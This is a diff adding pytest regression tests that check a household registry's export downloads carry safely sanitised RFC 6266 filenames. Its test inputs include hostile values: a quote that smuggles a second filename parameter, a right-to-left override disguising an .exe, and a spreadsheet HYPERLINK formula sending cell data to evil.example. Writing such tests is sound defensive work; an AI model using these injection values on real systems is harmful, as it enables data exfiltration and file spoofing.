@@ -8,6 +8,7 @@ import io
 import itertools
 import re
 from typing import Any
+from urllib.parse import unquote
 
 import pytest
 from openpyxl import load_workbook
@@ -360,3 +361,66 @@ async def test_exports_outside_the_jurisdiction_are_404_and_wrong_levels_422(wri
         "/exports/villages/12345/register.xlsx", headers=auth(registry, "city", CITY)
     )
     assert response.status_code == 422
+
+
+# RFC 6266 with RFC 5987's ext-value, strictly: one quoted ASCII filename without quotes or backslashes
+# inside (so nothing needs escaping), one filename* of attr-chars and percent-encoded UTF-8 bytes.
+DISPOSITION = re.compile(
+    r"attachment; filename=\"(?P<fallback>[A-Za-z0-9._()-]+)\"; "
+    r"filename\*=UTF-8''(?P<encoded>(?:[A-Za-z0-9!#$&+.^_`|~-]|%[0-9A-F]{2})+)"
+)
+
+
+def download_name(response: Any) -> tuple[str, str]:
+    """(the ASCII fallback, the decoded filename*) of a download, or an AssertionError if malformed."""
+    header = response.headers["content-disposition"]
+    match = DISPOSITION.fullmatch(header)
+    assert match is not None, header
+    return match["fallback"], unquote(match["encoded"], errors="strict")
+
+
+@pytest.mark.parametrize(
+    ("head", "shown"),
+    [
+        ('王"小"二; filename=a.exe', "王_小_二_ filename=a.exe"),
+        (
+            '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
+            "=HYPERLINK(_http___evil.example__x=_&A1,_点击_)",
+        ),
+        ("王\u202egpj.exe", "王_gpj.exe"),  # a right-to-left override would show the name reversed
+        ("王\\二\t", "王_二"),
+    ],
+)
+async def test_a_card_is_named_safely_whatever_its_heads_name_holds(writable_registry, head, shown) -> None:
+    """A quote in the head's name ended the quoted filename early and added a second filename= parameter;
+    a URL put '/' into filename*. Every character that is structure in a header or a path is now '_'."""
+    registry = writable_registry
+    created = await create(registry, household(VILLAGE, head, [person(head, "head", True)]))
+    response = await registry.client.get(
+        f"/exports/households/{created['id']}/card.pdf", headers=auth(registry, "county", COUNTY)
+    )
+    assert response.status_code == 200, response.text
+    assert download_name(response) == (f"card-{created['id']}.pdf", f"户卡-{shown}-{created['id']}.pdf")
+
+
+async def test_every_export_and_template_is_named_in_rfc_6266_form(writable_registry) -> None:
+    registry = writable_registry
+    await populate(registry)
+    expected = {
+        f"/exports/villages/{VILLAGE}/register.xlsx": (
+            f"register-{VILLAGE}.xlsx",
+            f"村册-纪念塔社区-{VILLAGE}.xlsx",
+        ),
+        f"/exports/townships/{TOWNSHIP}/book.xlsx": (
+            f"book-{TOWNSHIP}.xlsx",
+            f"乡簿-新华路街道-{TOWNSHIP}.xlsx",
+        ),
+        f"/exports/counties/{COUNTY}/archive.xlsx": (f"archive-{COUNTY}.xlsx", f"县档-南明区-{COUNTY}.xlsx"),
+        f"/exports/counties/{COUNTY}/archive.csv": (f"archive-{COUNTY}.csv", f"县档-南明区-{COUNTY}.csv"),
+        "/imports/template.xlsx": ("import-template.xlsx", "贫困户登记表.xlsx"),
+        "/imports/template.csv": ("import-template.csv", "贫困户登记表.csv"),
+    }
+    for path, names in expected.items():
+        response = await registry.client.get(path, headers=auth(registry, "county", COUNTY))
+        assert response.status_code == 200, (path, response.text)
+        assert download_name(response) == names, path
